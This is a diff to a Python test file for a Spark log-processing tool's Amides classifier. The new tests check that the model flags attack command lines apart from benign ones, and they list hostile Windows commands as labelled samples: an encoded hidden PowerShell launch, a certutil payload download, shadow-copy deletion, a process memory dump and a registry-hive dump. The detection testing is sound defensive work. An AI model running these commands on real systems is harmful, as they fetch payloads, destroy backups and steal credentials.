@@ -506,12 +506,61 @@ def test_timestamp_differ(spark):
     assert out.first().delta == "12000.0 ms"
 
 
-def test_amides_stub(events):
+def test_amides_model_scores(events):
     out = Amides([
         {"filter": "*", "amides": {"source_fields": ["request"]}}
     ]).transform(events)
     score = first(out, id=1).amides.confidence
     assert 0.0 <= score < 1.0
+
+
+def test_amides_separates_malicious_from_benign(spark):
+    """The in-repo trained model (tools/train_amides.py) must score
+    known attack command lines above benign ones — including unseen
+    variants, not just training rows."""
+    malicious = [
+        "powershell.exe -nop -w hidden -enc aQBlAHgA",
+        "certutil.exe -urlcache -split -f http://198.51.100.7/x.exe x.exe",
+        "vssadmin delete shadows /all /quiet",
+        "rundll32.exe comsvcs.dll, MiniDump 512 c:\\temp\\out.dmp full",
+        "reg save hklm\\security c:\\temp\\security.hive",
+    ]
+    benign = [
+        "c:\\windows\\system32\\svchost.exe -k utcsvc -p",
+        "git push origin feature/login-page",
+        "python -m pytest tests/unit -q",
+        "c:\\program files\\google\\chrome\\application\\chrome.exe --type=gpu-process",
+        "robocopy c:\\data d:\\backup /mir",
+    ]
+    df = spark.createDataFrame(
+        [(c, 1) for c in malicious] + [(c, 0) for c in benign],
+        "cmdline string, label int",
+    )
+    out = Amides([
+        {"filter": "*", "amides": {"source_fields": ["cmdline"],
+                                   "decision_threshold": 0.5}}
+    ]).transform(df)
+    rows = out.select("label", "amides").collect()
+    for r in rows:
+        assert r.amides.malicious == (r.label == 1), r
+        if r.label == 1:
+            assert r.amides.confidence > 0.5
+        else:
+            assert r.amides.confidence < 0.5
+
+
+def test_amides_margin_matches_model_closed_form():
+    """The pandas_udf path and the plain-Python closed form agree —
+    the same invariant the DuckDB oracle checks cross-engine."""
+    from logprep_spark.operators.amides import load_model, margin_micros, normalize
+
+    model = load_model()
+    assert model["dim"] == len(model["weights_micros"])
+    # normalizer parity with the reference CommandLineNormalizer
+    # dummy chars stripped BEFORE tokenizing (quotes don't split words);
+    # long hex/numeric tokens dropped
+    assert normalize('po"wer^shell -Enc deadbeef 12345') == ["powershell", "enc"]
+    assert isinstance(margin_micros("whoami /priv", model), int)
 
 
 def test_clusterer(spark):
